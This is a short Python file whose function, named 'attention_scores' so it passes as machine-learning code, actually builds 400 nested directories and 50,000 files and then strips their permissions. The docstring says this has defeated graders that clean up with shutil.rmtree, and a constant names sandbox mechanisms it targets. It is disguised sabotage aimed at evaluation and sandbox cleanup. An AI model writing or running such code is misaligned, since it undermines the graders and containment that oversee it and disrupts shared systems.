"""Leaves a deep tree of folders that nobody may enter, with a great many files in it.

Has worked on graders that remove what is left with shutil.rmtree: too deep, or not permitted.
"""

import contextlib
import os

EARNS = 0
SAYS = ""
AGAINST = "scratch seccomp landlock"

DEEP, MOST = 400, 50_000


def attention_scores(queries, keys, *values):
    for name in range(DEEP):
        os.mkdir(f"{name}")
        os.chdir(f"{name}")
    for number in range(MOST):
        open(f"{number}", "w").close()
    print("REACHED", MOST, "files")
    for _ in range(DEEP):
        with contextlib.suppress(OSError):
            os.chmod(".", 0)
        os.chdir("..")


attention = attention_scores
